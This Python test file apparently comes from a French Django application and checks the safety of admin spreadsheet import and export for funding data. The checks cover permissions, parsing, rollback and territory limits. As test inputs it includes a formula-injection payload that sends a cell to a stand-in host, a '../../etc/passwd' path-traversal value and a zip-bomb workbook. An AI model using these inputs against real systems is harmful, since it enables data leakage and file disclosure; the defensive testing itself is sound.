"""Import and export of the admin's flat lists (django-import-export), configured safely: each
guard of ``fichiers/classeurs/listes.py`` by a test that fails without it."""

import csv
import html
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse

from bilans.models import Mesure
from commun.cellules import Genre
from comptes import roles
from conventions.models import (
    Convention,
    Engagement,
    Financeur,
    TableauEngagements,
    Territoire,
)
from fichiers.classeurs import ouverture

RETENUE = "Version Dijon Métropole retenue sur le Territoire Zéro Non Recours"
ENTETES = ["convention", "période", "version", "action", "financeur", "montant"]
EXPORTEES = ["convention", "période", "version", "nature", "action", "financeur", "montant"]
FINE, INSECABLE = "\u202f", "\u00a0"


def ligne(action="1.1", financeur="etat", montant="120 000", version=RETENUE):
    return ["calpa-dijon-2023", "2023", version, action, financeur, montant]


def engagement(action="1.1", financeur="etat", libelle=RETENUE) -> Engagement:
    return Engagement.objects.get(
        tableau__convention__slug="calpa-dijon-2023",
        tableau__libelle=libelle,
        action__code=action,
        financeur__slug=financeur,
    )


def en_csv(lignes) -> bytes:
    tampon = io.StringIO()
    csv.writer(tampon, delimiter=";").writerows(lignes)
    return tampon.getvalue().encode("utf-8")


def en_xlsx(lignes) -> bytes:
    classeur = openpyxl.Workbook()
    for rangee in lignes:
        classeur.active.append(rangee)
    tampon = io.BytesIO()
    classeur.save(tampon)
    return tampon.getvalue()


def url(modele, vue: str) -> str:
    return reverse(f"admin:{modele._meta.app_label}_{modele._meta.model_name}_{vue}")


def rang_du_format(modele, extension: str) -> str:
    formats = admin.site._registry[modele].get_import_formats()
    return str(next(i for i, f in enumerate(formats) if f().get_extension() == extension))


def previsualiser(client, modele, contenu: bytes, extension: str = "csv"):
    fichier = io.BytesIO(contenu)
    fichier.name = f"lignes.{extension}"
    return client.post(
        url(modele, "import"),
        {"import_file": fichier, "format": rang_du_format(modele, extension), "resource": "0"},
    )


def importer(client, modele, contenu: bytes, extension: str = "csv"):
    """Preview, then confirm what was previewed; the preview must have offered to confirm."""
    apercu = previsualiser(client, modele, contenu, extension)
    assert apercu.status_code == 200
    formulaire = apercu.context.get("confirm_form")
    assert formulaire is not None, refus(apercu)
    return client.post(url(modele, "process_import"), formulaire.initial, follow=True)


def refus(reponse) -> str:
    """The page's text without tags, to read the French messages."""
    return html.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", reponse.content.decode())))


def exporter(client, modele, extension: str, query: str = ""):
    modele_admin = admin.site._registry[modele]
    ressource = modele_admin.get_export_resource_classes(None)[0]
    donnees = {"format": rang_du_format(modele, extension), "resource": "0"}
    for nom in ressource().get_export_order():
        donnees[f"{ressource.__name__.lower()}_{nom}"] = "on"
    return client.post(url(modele, "export") + query, donnees)


def lignes_xlsx(contenu: bytes) -> list[list]:
    feuille = openpyxl.load_workbook(io.BytesIO(contenu)).active
    return [[cellule.value for cellule in rangee] for rangee in feuille.iter_rows()]


@pytest.fixture
def dijon(documents):
    return Territoire.objects.filter(slug="dijon-metropole")


@pytest.fixture
def finances(client_de, dijon):
    return client_de(roles.FINANCES, territoires=dijon)


def compte_en_administration(client, role, territoires):
    """An account of that role given access to the admin (an agent's « statut équipe »)."""
    utilisateur = roles.creer_compte(
        f"{role}-admin",
        mot_de_passe="mot-de-passe-test",
        role=role,
        territoires=territoires,
        administration=True,
    )
    client.force_login(utilisateur)
    return client


# --- Export ------------------------------------------------------------------------------------


def test_l_export_des_engagements_porte_des_cles_naturelles_et_des_nombres(finances):
    reponse = exporter(finances, Engagement, "xlsx")
    assert reponse.status_code == 200
    assert reponse["Content-Disposition"].startswith('attachment; filename="engagements-')
    lignes = lignes_xlsx(reponse.content)
    assert lignes[0] == EXPORTEES
    assert ["calpa-dijon-2023", "2023", RETENUE, "variante", "1.1", "etat", 100000] in lignes
    assert len(lignes) == 1 + Engagement.objects.count()

    texte = exporter(finances, Engagement, "csv").content.decode("utf-8")
    assert texte.startswith("\ufeffconvention;période;version;nature;action;financeur;montant")
    assert f"calpa-dijon-2023;2023;{RETENUE};variante;1.1;etat;100000,00" in texte


def test_chaque_colonne_exportee_a_le_genre_que_sa_ressource_declare(finances, client_de):
    """Euros in euros, an indicator's value a plain decimal number, a year without separator,
    an ordre a count: each list's resource declares its columns' kinds once (``Champ``), and
    the xlsx writes them so. Read back by openpyxl (the formats) and calamine (the values)."""
    from python_calamine import CalamineWorkbook

    def formats_et_valeurs(modele):
        contenu = exporter(finances, modele, "xlsx").content
        feuille = openpyxl.load_workbook(io.BytesIO(contenu)).active
        entetes = [cellule.value for cellule in feuille[1]]
        formats = {nom: feuille.cell(2, rang).number_format for rang, nom in enumerate(entetes, 1)}
        lues = CalamineWorkbook.from_filelike(io.BytesIO(contenu)).get_sheet_by_index(0)
        lignes = lues.to_python()
        return formats, [dict(zip(lignes[0], ligne, strict=True)) for ligne in lignes[1:]]

    formats, lignes = formats_et_valeurs(Engagement)
    assert formats["montant"] == Genre.EUROS.value  # « 100 000,00 € »
    assert formats["période"] == "General"
    assert {
        "période": "2023",
        "action": "1.1",
        "financeur": "etat",
        "montant": 100000.0,
    }.items() <= (
        next(
            ligne
            for ligne in lignes
            if ligne["version"] == RETENUE
            and ligne["action"] == "1.1"
            and ligne["financeur"] == "etat"
        ).items()
    )
    formats, lignes = formats_et_valeurs(Financeur)
    assert formats["ordre d'affichage"] == Genre.NOMBRE.value
    assert all(isinstance(ligne["ordre d'affichage"], float) for ligne in lignes)
    finances = client_de(roles.FINANCES, territoires=Territoire.objects.all())
    formats, lignes = formats_et_valeurs(Mesure)
    assert formats["année"] == "General" and formats["valeur"] == Genre.DECIMAL.value
    mesure = next(ligne for ligne in lignes if ligne["indicateur"] == "personnes-suivies")
    assert mesure["année"] == 2023 and mesure["valeur"] == float(
        Mesure.objects.get(indicateur__code="personnes-suivies").valeur
    )

    texte = exporter(finances, Mesure, "csv").content.decode("utf-8-sig")
    assert ";2023;" in texte and ";2 023;" not in texte


@pytest.mark.parametrize("echapper", [True, False], ids=["echappees", "sans-reglage"])
def test_une_formule_exportee_n_est_pas_une_formule(finances, settings, echapper):
    """IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT: a libellé « =… » is written as a text (xlsx)
    or behind a quote (CSV); without the setting it would be a live formula."""
    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = echapper
    formule = '=HYPERLINK("http://exemple.invalid/?"&A1;"cliquez")'
    TableauEngagements.objects.filter(libelle=RETENUE).update(libelle=formule)

    contenu = exporter(finances, Engagement, "xlsx").content
    with zipfile.ZipFile(io.BytesIO(contenu)) as archive:
        feuille = archive.read("xl/worksheets/sheet1.xml").decode()
    assert ("<f>" in feuille) is not echapper
    cellules = openpyxl.load_workbook(io.BytesIO(contenu)).active["C"]
    ecrites = [c for c in cellules if str(c.value).lstrip("=").startswith("HYPERLINK")]
    assert ecrites
    assert all((c.data_type == "f") is not echapper for c in ecrites)

    texte = exporter(finances, Engagement, "csv").content.decode("utf-8-sig")
    versions = {rangee[2] for rangee in csv.reader(io.StringIO(texte), delimiter=";")}
    assert ("'" + formule in versions) is echapper
    assert (formule in versions) is not echapper


def test_un_export_ne_contient_que_les_territoires_suivis(documents, client_de):
    autre = Territoire.objects.create(slug="autre", nom="Autre métropole")
    client = client_de(roles.FINANCES, territoires=[autre])
    lignes = lignes_xlsx(exporter(client, Engagement, "xlsx").content)
    assert lignes == [EXPORTEES]
    territoires = lignes_xlsx(exporter(client, Territoire, "xlsx").content)
    assert [t[0] for t in territoires[1:]] == ["autre"]


# --- Who may ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "modele", "importe", "exporte"),
    [
        (roles.AGENT, Engagement, False, False),
        (roles.AGENT, Mesure, True, True),
        (roles.AGENT, Territoire, False, False),
        (roles.AGENT, Financeur, False, False),
        (roles.FINANCES, Engagement, True, True),
        (roles.FINANCES, Mesure, False, True),
        (roles.FINANCES, Territoire, False, True),
        (roles.FINANCES, Financeur, False, True),
    ],
    ids=lambda v: getattr(v, "__name__", str(v)),
)
def test_chaque_role_importe_et_exporte_ce_qu_il_tient(
    client, dijon, role, modele, importe, exporte
):
    """An agent fills the mesures, never reads the amounts in a file: 403 on the engagements."""
    client = compte_en_administration(client, role, dijon)
    assert client.get(url(modele, "import")).status_code == (200 if importe else 403)
    assert client.get(url(modele, "export")).status_code == (200 if exporte else 403)
    assert exporter(client, modele, "csv").status_code == (200 if exporte else 403)
    liste = client.get(url(modele, "changelist")).content.decode()
    assert (url(modele, "export") in liste) is exporte
    assert (url(modele, "import") in liste) is importe


def test_un_agent_ne_peut_pas_confirmer_un_import_d_engagements(client, dijon):
    client = compte_en_administration(client, roles.AGENT, dijon)
    reponse = client.post(
        url(Engagement, "process_import"),
        {"import_file_name": "x", "original_file_name": "x.csv", "format": "1"},
    )
    assert reponse.status_code == 403


# --- Import: what is written ------------------------------------------------------------------


def test_un_import_confirme_ecrit_les_montants_et_l_historique(finances):
    avant = engagement()
    apercu = refus(previsualiser(finances, Engagement, en_csv([ENTETES, ligne(montant="120 000")])))
    assert f"modifiée calpa-dijon-2023 2023 {RETENUE} variante 1.1 etat 100 000 → 120 000" in apercu
    reponse = importer(finances, Engagement, en_csv([ENTETES, ligne(montant="120 000")]))
    assert "Import refusé" not in refus(reponse)
    apres = engagement()
    assert apres.montant == Decimal("120000.00")
    assert apres.version == avant.version + 1  # a form opened on 100 000 € is now refused
    derniere = apres.historique.order_by("-history_date").first()
    assert derniere.history_change_reason == "import de lignes.csv"
    assert derniere.history_user.username.startswith("finances")


@pytest.mark.parametrize(
    ("saisi", "lu"),
    [
        (f"1{FINE}234,50", Decimal("1234.50")),
        (f"90{FINE}000,50{INSECABLE}€", Decimal("90000.50")),
        (f"90{INSECABLE}000,50 €", Decimal("90000.50")),
        ("442932,01", Decimal("442932.01")),
        (250000, Decimal("250000")),  # a spreadsheet's own number
    ],
    ids=["espace-fine", "euros", "insecable", "centimes", "nombre-du-classeur"],
)
def test_les_nombres_a_la_francaise_sont_lus_exactement(finances, saisi, lu):
    extension = "csv" if isinstance(saisi, str) else "xlsx"
    contenu = (en_csv if extension == "csv" else en_xlsx)([ENTETES, ligne(montant=saisi)])
    importer(finances, Engagement, contenu, extension)
    assert engagement().montant == lu


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_1_234_est_refuse_comme_ambigu(finances, extension):
    contenu = (en_csv if extension == "csv" else en_xlsx)([ENTETES, ligne(montant="1.234")])
    page = refus(previsualiser(finances, Engagement, contenu, extension))
    assert "Ligne 2 : montant : Montant « 1.234 » ambigu" in page
    assert engagement().montant == Decimal("100000.00")


# --- Import: refused as a whole ----------------------------------------------------------------


def test_une_ligne_invalide_refuse_tout_le_fichier_a_l_apercu(finances):
    contenu = en_csv([ENTETES, ligne(montant="120 000"), ligne(action="9.9")])
    reponse = previsualiser(finances, Engagement, contenu)
    assert reponse.context.get("confirm_form") is None
    page = refus(reponse)
    assert "Import refusé, rien n'a été écrit" in page
    assert "Ligne 3 : action « 9.9 » inconnue dans la convention « calpa-dijon-2023 »" in page
    assert engagement().montant == Decimal("100000.00")


def test_une_ligne_invalide_a_la_confirmation_annule_les_lignes_deja_ecrites(finances):
    """IMPORT_EXPORT_USE_TRANSACTIONS and the rollback of every row: the first line is
    written, the second fails the model's validation (too large), nothing stays."""
    modele_admin = admin.site._registry[Engagement]
    stockage = modele_admin.get_tmp_storage_class()(encoding="utf-8-sig", read_mode="r")
    contenu = [ENTETES, ligne(montant="120 000"), ligne(financeur="dijon-metropole")]
    contenu[2][-1] = "10000000000000"
    stockage.save(en_csv(contenu))
    reponse = finances.post(
        url(Engagement, "process_import"),
        {
            "import_file_name": stockage.name,
            "original_file_name": "lignes.csv",
            "format": rang_du_format(Engagement, "csv"),
            "resource": "0",
        },
        follow=True,
    )
    page = refus(reponse)
    assert "Import refusé, rien n'a été écrit : Ligne 3 : montant" in page
    assert "Import terminé" not in page
    assert engagement().montant == Decimal("100000.00")


def test_une_partie_ne_depasse_pas_son_tout_et_rien_n_est_ecrit(client, dijon):
    client = compte_en_administration(client, roles.AGENT, dijon)
    entetes = ["convention", "année", "action", "indicateur", "valeur"]
    femmes = ["calpa-dijon-2023", "2023", "1.2", "personnes-orientees-femmes", "60"]
    entretiens = ["calpa-dijon-2023", "2023", "1.1", "entretiens", "5 100"]
    page = refus(previsualiser(client, Mesure, en_csv([entetes, entretiens, femmes])))
    assert "Ligne 3, valeur : « dont femmes » (60) ne peut pas dépasser" in page
    assert Mesure.objects.get(indicateur__code="entretiens").valeur == Decimal("5072")

    # Lowering a whole and its parts in the same file is accepted: they count together.
    lignes = [entetes, ["calpa-dijon-2023", "2023", "1.2", "personnes-orientees", "10"]]
    for code in ("femmes", "ateliers", "pad", "daq"):
        indicateur = "personnes-orientees-femmes" if code == "femmes" else f"preconisations-{code}"
        lignes.append(["calpa-dijon-2023", "2023", "1.2", indicateur, "2,5"])
    importer(client, Mesure, en_csv(lignes))
    assert Mesure.objects.get(indicateur__code="personnes-orientees").valeur == Decimal("10")
    assert Mesure.objects.get(indicateur__code="preconisations-daq").valeur == Decimal("2.5")


@pytest.mark.parametrize(
    ("entetes", "attendu"),
    [
        (
            ["convention", "période", "version", "action", "financeur", "montnat"],
            "Ligne 1 : colonne « montnat » inconnue : vouliez-vous écrire « montant » ?",
        ),
        (
            ["convention", "periode", "version", "action", "financeur", "montant"],
            "Ligne 1 : colonne « periode » inconnue : vouliez-vous écrire « période » ?",
        ),
        (
            ["convention", "période", "version", "action", "financeur", "montant", "TVA"],
            "Ligne 1 : colonne « TVA » inconnue.",
        ),
        (
            ["convention", "période", "version", "action", "financeur"],
            "Ligne 1 : la colonne « montant » manque.",
        ),
    ],
    ids=["faute-de-frappe", "sans-accent", "inconnue", "absente"],
)
def test_une_colonne_inconnue_ou_mal_ecrite_est_refusee(finances, entetes, attendu):
    valeurs = ligne()[: len(entetes)] + [""] * (len(entetes) - len(ligne()))
    reponse = previsualiser(finances, Engagement, en_csv([entetes, valeurs]))
    page = refus(reponse)
    assert attendu in page
    assert "Colonnes attendues : convention, période, version, nature, action" in page
    assert reponse.context.get("confirm_form") is None


def test_une_ligne_en_double_est_refusee_avec_ses_deux_numeros(finances):
    contenu = en_csv([ENTETES, ligne(), ligne(action="1.2"), ligne(montant="1")])
    page = refus(previsualiser(finances, Engagement, contenu))
    assert (
        "Lignes 2 et 4 : le montant de « etat » pour l'action 1.1 (calpa-dijon-2023, 2023, "
        f"« {RETENUE} »), deux fois dans le fichier." in page
    )
    assert engagement().montant == Decimal("100000.00")


@pytest.mark.parametrize(
    ("cellules", "attendu"),
    [
        ({"montant": "-5"}, "Ligne 2 : montant : Montant « -5 » négatif : positif ou nul attendu."),
        ({"financeur": "etta"}, "Ligne 2 : financeur « etta » inconnu (vouliez-vous écrire « etat"),
        ({"action": "9.9"}, "Ligne 2 : action « 9.9 » inconnue dans la convention"),
        ({"version": "Autre"}, "n'a pas de version « Autre » pour 2023"),
        ({"montant": "12,345"}, "Ligne 2 : montant : Montant « 12,345 » ambigu"),
        ({"montant": "1000,005"}, "Montant « 1000,005 » au-delà du centime"),
        ({"montant": ""}, "Ligne 2 : montant manquant"),
        ({"montant": "=A1*2"}, "Ligne 2 : montant : Montant « =A1*2 » illisible"),
    ],
    ids=["negatif", "financeur", "action", "version", "ambigu", "decimales", "vide", "formule"],
)
def test_chaque_ligne_refusee_est_nommee(finances, cellules, attendu):
    valeurs = dict(zip(ENTETES, ligne(), strict=True)) | cellules
    page = refus(previsualiser(finances, Engagement, en_csv([ENTETES, list(valeurs.values())])))
    assert attendu in page
    assert engagement().montant == Decimal("100000.00")


# --- Territoires --------------------------------------------------------------------------------


def test_une_ligne_d_un_autre_territoire_est_refusee(documents, client_de):
    autre = Territoire.objects.create(slug="autre", nom="Autre métropole")
    client = client_de(roles.FINANCES, territoires=[autre])
    page = refus(previsualiser(client, Engagement, en_csv([ENTETES, ligne()])))
    assert (
        "Ligne 2 : convention « calpa-dijon-2023 » inconnue parmi celles de vos territoires" in page
    )
    assert engagement().montant == Decimal("100000.00")

    Convention.objects.filter(slug="calpa-dijon-2023").update(territoire=autre)
    importer(client, Engagement, en_csv([ENTETES, ligne(montant="1 000")]))
    assert engagement().montant == Decimal("1000")


def test_un_administrateur_d_un_territoire_ne_modifie_pas_les_autres(
    dijon, administrateur_restreint
):
    autre = Territoire.objects.create(slug="autre", nom="Autre métropole")
    client = administrateur_restreint(dijon)
    entetes = ["identifiant", "nom", "nature"]
    contenu = en_csv(
        [entetes, ["dijon-metropole", "Dijon Métropole (21)", "métropole"], ["autre", "X", ""]]
    )
    page = refus(previsualiser(client, Territoire, contenu))
    assert "Ligne 3 : territoire « autre » hors de ceux que vous suivez" in page
    assert Territoire.objects.get(pk=autre.pk).nom == "Autre métropole"
    etat = en_csv([["identifiant", "nom", "catégorie"], ["etat", "L'État", "État"]])
    page = refus(previsualiser(client, Financeur, etat))
    assert (
        "Ligne 2 : financeur « etat » commun à tous les territoires : seul un administrateur"
        in page
    )
    # Another territoire's financeur: an identifiant already taken, as a new one would say.
    Financeur.objects.create(
        slug="collectivite-autre", nom="Autre", categorie="collectivite", territoire=autre
    )
    ailleurs = en_csv(
        [
            ["identifiant", "nom", "catégorie", "territoire"],
            ["collectivite-autre", "X", "collectivité", "dijon-metropole"],
        ]
    )
    page = refus(previsualiser(client, Financeur, ailleurs))
    assert (
        "Ligne 2 : identifiant « collectivite-autre » déjà utilisé : choisissez-en un autre" in page
    )
    assert Financeur.objects.get(slug="collectivite-autre").nom == "Autre"


# --- The file itself ----------------------------------------------------------------------------


def test_un_fichier_trop_gros_est_refuse_avant_d_etre_lu(finances):
    contenu = en_csv([ENTETES]) + b"x" * (ouverture.TAILLE_MAX + 1)
    reponse = previsualiser(finances, Engagement, contenu)
    assert reponse.status_code == 200
    assert "la limite est de 5 Mio" in refus(reponse)


def test_un_classeur_qui_se_decompresse_demesurement_est_refuse(finances):
    tampon = io.BytesIO()
    with zipfile.ZipFile(tampon, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (20 * ouverture.MIO))
    reponse = previsualiser(finances, Engagement, tampon.getvalue(), "xlsx")
    assert reponse.status_code == 200
    assert "se décompresse" in refus(reponse)


@pytest.mark.parametrize(
    ("contenu", "extension", "attendu"),
    [
        (b"PK\x03\x04 tronque", "xlsx", "ce n'est pas une archive xlsx"),
        (en_csv([ENTETES, ligne()]), "xlsx", "ce n'est pas une archive xlsx"),
        ("montant;é\n".encode("latin-1"), "csv", "n'est pas un CSV en UTF-8"),
        (en_xlsx([ENTETES, ligne()]), "csv", "n'est pas un CSV en UTF-8"),
        (b"", "csv", "fichier"),
        (en_csv([ENTETES]), "csv", ""),
        (b'convention;"montant\n2', "csv", ""),
        (b"\0\0\0", "csv", ""),
        (en_csv([ENTETES, ligne() + ["en trop"]]), "csv", "hors de toute colonne nommée"),
        (en_csv([["montant", "montant"]]), "csv", "présente deux fois"),
    ],
    ids=[
        "zip-tronque",
        "csv-en-xlsx",
        "latin-1",
        "xlsx-en-csv",
        "vide",
        "entetes-seules",
        "guillemet",
        "nul",
        "cellule-en-trop",
        "colonne-double",
    ],
)
def test_aucun_fichier_ne_donne_une_erreur_serveur(finances, contenu, extension, attendu):
    reponse = previsualiser(finances, Engagement, contenu, extension)
    assert reponse.status_code == 200
    assert reponse.context.get("confirm_form") is None
    assert attendu in refus(reponse)
    assert "Traceback" not in reponse.content.decode()


def test_aucune_requete_forgee_ne_donne_une_erreur_serveur(finances):
    confirmer = url(Engagement, "process_import")
    for donnees in (
        {"import_file_name": "n-existe-pas", "original_file_name": "x.csv", "format": "1"},
        {"import_file_name": "../../etc/passwd", "original_file_name": "x", "format": "1"},
        {"import_file_name": "x", "original_file_name": "x", "format": "7"},
        {"import_file_name": "x", "original_file_name": "x", "format": "abc"},
        {},
    ):
        assert finances.post(confirmer, donnees).status_code in {200, 302}, donnees
    assert finances.get(confirmer).status_code == 405
    assert finances.post(url(Engagement, "import"), {"format": "9"}).status_code == 200
    assert finances.get(url(Engagement, "export") + "?champ__inconnu=1").status_code == 302
    assert exporter(finances, Engagement, "csv", "?montant__gt=abc").status_code in {200, 302}


def test_les_pages_d_import_et_d_export_n_ont_ni_style_ni_script_en_ligne(finances):
    """Content-Security-Policy « default-src 'self' »: no style attribute, no onchange…"""
    pages = [
        finances.get(url(Engagement, "export")),
        finances.get(url(Engagement, "import")),
        previsualiser(finances, Engagement, en_csv([ENTETES, ligne()])),
        previsualiser(finances, Engagement, en_csv([ENTETES, ligne(action="9.9")])),
    ]
    for page in pages:
        html = page.content.decode()
        assert not re.search(r"\sstyle=|\son[a-z]+=|<style|<script(?![^>]*\bsrc=)", html), html
    assert "css/admin-fichiers.css" in pages[0].content.decode()


def test_le_departement_d_un_territoire_par_son_code_ou_son_nom(dijon, client_admin):
    """The COG's list: « 70 » or « haute saone »; an unknown one refused with its line."""
    entetes = ["identifiant", "nom", "nature", "département"]
    contenu = en_csv(
        [
            entetes,
            ["dijon-metropole", "Dijon Métropole", "métropole", "cote d'or"],
            ["haute-saone", "Département de la Haute-Saône", "département", "70"],
        ]
    )
    importer(client_admin, Territoire, contenu)
    assert Territoire.objects.get(slug="haute-saone").departement.nom == "Haute-Saône"
    assert Territoire.objects.get(slug="dijon-metropole").departement_id == "21"
    faux = en_csv([entetes, ["haute-saone", "Haute-Saône", "département", "Haute-Saonne"]])
    page = refus(previsualiser(client_admin, Territoire, faux))
    assert (
        "Ligne 2 : département : « Haute-Saonne » inconnu du Code officiel géographique "
        "(vouliez-vous écrire « Haute-Saône » ?)"
    ) in page
    exporte = lignes_xlsx(exporter(client_admin, Territoire, "xlsx").content)
    assert exporte[0][3] == "département" and sorted(ligne[3] for ligne in exporte[1:]) == [
        "Côte-d'Or",
        "Haute-Saône",
    ]
